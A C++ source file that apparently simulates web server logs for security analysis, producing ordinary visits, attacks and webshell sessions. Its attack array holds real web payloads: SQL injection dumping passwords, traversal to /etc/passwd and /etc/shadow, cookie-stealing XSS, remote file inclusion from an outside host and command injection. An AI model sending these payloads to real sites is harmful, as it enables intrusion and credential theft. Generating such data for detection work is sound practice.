// What web servers write down: visits, attacks on sites, and the commands of those who left a backdoor.
#include <fmt/format.h>

#include <algorithm>
#include <array>

#include "base/hash.h"
#include "simulate/nation.h"

namespace tocsin::simulate {
namespace {

constexpr std::array<std::string_view, 6> kBrowsers{
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.11 (KHTML, like Gecko) Chrome/23.0.1271.97 Safari/537.11",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)",
    "Mozilla/5.0 (Windows NT 5.1; rv:18.0) Gecko/20100101 Firefox/18.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_2) AppleWebKit/536.26.17 (KHTML, like Gecko) Version/6.0.2 "
    "Safari/536.26.17",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 6_1 like Mac OS X) AppleWebKit/536.26 (KHTML, like Gecko) Mobile/10B142",
    "Mozilla/5.0 (X11; Linux x86_64; rv:17.0) Gecko/20100101 Firefox/17.0"};

constexpr std::array<std::string_view, 10> kAttacks{
    "/news.php?id=1%27%20UNION%20SELECT%201,2,concat(user,0x3a,password)%20FROM%20users--%20",
    "/article.asp?id=7%20and%201=1%20union%20all%20select%20null,table_name%20from%20information_schema.tables",
    "/download.php?file=../../../../../../etc/passwd",
    "/show.jsp?page=..%2f..%2f..%2f..%2fetc%2fshadow",
    "/search.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/index.php?page=http://203.0.113.7/c.txt%3f",
    "/ping.php?host=127.0.0.1;cat%20/etc/passwd",
    "/list.php?cat=3%27%20or%20sleep(5)--%20",
    "/view.php?name=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/login.php?user=admin%27%20or%20%271%27=%271"};

constexpr std::array<std::string_view, 6> kShells{"/uploads/2012/images.php",    "/images/cache.asp",
                                                  "/upload/face/1.php;.jpg.php", "/attachments/month_1301/data.php",
                                                  "/static/img/thumb.jsp",       "/UserFiles/Image/log.asp"};

constexpr std::array<std::string_view, 12> kMonths{"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                                   "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

}  // namespace

std::string_view Nation::browser() { return kBrowsers[random_.below(kBrowsers.size())]; }

void Nation::log(TextFile& file, const Site& site, const Request& request) {
  // Local time with its offset, as Apache writes it.
  const std::string local = stamp(request.time);
  const auto month = static_cast<std::size_t>((local[5] - '0') * 10 + local[6] - '0' - 1);
  file.write(fmt::format("{}:80 {} - - [{}/{}/{}:{} {}] \"{} {} HTTP/1.1\" {} {} \"{}\" \"{}\"\n", site.name,
                         request.client.text(), std::string_view(local).substr(8, 2), kMonths[month],
                         std::string_view(local).substr(0, 4), std::string_view(local).substr(11, 8),
                         std::string_view(local).substr(26), request.method, request.path, request.status,
                         request.bytes, request.referrer, request.agent));
  ++records_;
  if (random_.chance(0.0002)) damage(file);
}

void Nation::visit(TextFile& file, const Site& site, Timestamp time) {
  const std::uint64_t bits = random_.next();
  const Crowd& crowd = any_crowd();
  Request request{.time = time, .client = random_.of(crowd.clients), .agent = browser(), .bytes = browsed()};
  const std::string page = fmt::format("/news/{}.html", bits >> 32 & 63), home = fmt::format("http://{}/", site.name),
                    form = home + "login.php";
  switch (bits >> 40 & 15) {
    case 0:  // signs in
      request.method = "POST";
      request.path = "/login.php";
      request.referrer = form;
      break;
    case 1:  // a provider tells of a payment
      request.client = crowd.popular[hash64(site.name) % crowd.popular.size()];
      request.method = "POST";
      request.path = "/pay/notify.php";
      request.agent = "Mozilla/4.0";
      break;
    case 2:  // the site's own clock
      request.client = site.server;
      request.path = "/cron.php";
      request.agent = "Wget/1.12 (linux-gnu)";
      break;
    case 3:
      request.path = "/";
      break;
    case 5:  // a search engine
      request.client = random_.of(crowd.shared);
      request.path = "/robots.txt";
      request.agent = "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/)";
      break;
    case 6:  // a content network keeps a copy of a large file
      request.client = random_.of(crowd.shared);
      request.path = "/media/film.mp4";
      request.status = 206;
      request.bytes = 1 << 20;
      break;
    case 7:  // looks for what is not there
      request.client = random_.of(crowd.strangers);
      request.path = "/phpmyadmin/index.php";
      request.status = 404;
      request.bytes = 300;
      break;
    case 4:
      request.path = "/style/site.css";
      request.referrer = home;
      break;
    default:
      request.path = page;
      request.referrer = home;
  }
  log(file, site, request);
}

void Nation::visits(TextFile& file, const Site& site, Timestamp time) {
  for (double more = scenario_.benign_requests * bustle(time); more > 0 && random_.chance(more); more -= 1) {
    visit(file, site, time);
  }
}

void Nation::attack_sites(const Population& population) {
  const std::uint64_t size = population.amount();
  if (size == 0 || population.targets == 0) return;
  const Circle circle(population, population.targets, false);
  TextFile& file = this->file(numbered("sources/logs/sites") + ".log");
  const Shuffle shuffle(size);
  const std::uint64_t domestic = population.domestic.amount;
  const auto& at_home = world_.hosts("attackers", population.domestic.actors);
  const auto attempt = [&](Timestamp time, const IpAddress& actor, const Site& site, bool inside) {
    const std::string_view path = kAttacks[random_.below(kAttacks.size())];
    log(file, site,
        {.time = time,
         .client = actor,
         .path = path,
         .agent = browser(),
         .status = random_.below(3) == 0 ? 500U : 404U,
         .bytes = 312});
    harm(Kind::kWebAttack, time, actor, site, inside);
    // Another sensor saw some of them too.
    if (random_.below(5) == 0) {
      alert(time, {actor, static_cast<std::uint16_t>(20'000 + random_.below(40'000))}, {site.server_for(actor), 80},
            "ET WEB_SERVER Possible SQL Injection Attempt", "Web Application Attack", "", site.name);
    }
  };
  for (std::uint64_t i = 0; i < size; ++i) {
    const std::uint64_t number = shuffle(i);
    const Contact contact = circle.contact(number, random_);
    const auto& attackers = actors(population, population.origins[contact.origin]);
    if (contact.actor >= attackers.size()) continue;
    const Site& target = site(population, contact.target);
    // To the second, as logs have it.
    const Timestamp time = std::max(population.period.from, floor_to(time_of(population.period, i, size), kSecond));
    attempt(time, attackers[contact.actor], target, false);
    if (domestic > 0 && i % (size / domestic + 1) == 0) {
      attempt(time, at_home[i % at_home.size()], site(population, random_.below(population.targets)), true);
    }
    visits(file, site(population, random_.below(population.targets)), time);
  }
}

void Nation::plant_backdoors(const Population& population) {
  const std::uint64_t targets = population.reached();
  if (targets == 0) return;
  const Circle circle(population, targets, true);
  TextFile& file = this->file(numbered("sources/logs/backdoors") + ".log");
  const std::uint64_t size = circle.size();
  const Shuffle shuffle(size);
  for (std::uint64_t i = 0; i < size; ++i) {
    const std::uint64_t number = shuffle(i);
    const Contact contact = circle.contact(number, random_);
    const auto& masters = actors(population, population.origins[contact.origin]);
    if (contact.actor >= masters.size()) continue;
    const IpAddress master = masters[contact.actor];
    const Site& target = site(population, contact.target);
    const std::string_view shell = kShells[hash64(target.name) % kShells.size()];
    const Timestamp begin = std::max(population.period.from, floor_to(time_of(population.period, i, size), kSecond));
    const std::string_view agent = number % 3 == 0 ? std::string_view("antSword/v2.0") : browser();
    for (const Timestamp session :
         {begin, begin + 3 * kHour < population.period.to ? begin + 3 * kHour : begin - 3 * kHour}) {
      Timestamp time = session;
      for (std::uint64_t command = 0; command < 4 + number % 4; ++command) {
        log(file, target,
            {.time = time,
             .client = master,
             .method = "POST",
             .path = shell,
             .agent = agent,
             .bytes = 40 + random_.below(9000)});
        harm(Kind::kBackdoor, time, master, target);
        visits(file, target, time);
        time += static_cast<Timestamp>(5 + random_.below(90)) * kSecond;
      }
    }
    // Where a shell was and is no more, others still look for it.
    if (random_.below(8) == 0) {
      log(file, target,
          {.time = begin,
           .client = random_.of(any_crowd().strangers),
           .method = "POST",
           .path = shell,
           .agent = browser(),
           .status = 404,
           .bytes = 300});
    }
  }
}

}  // namespace tocsin::simulate
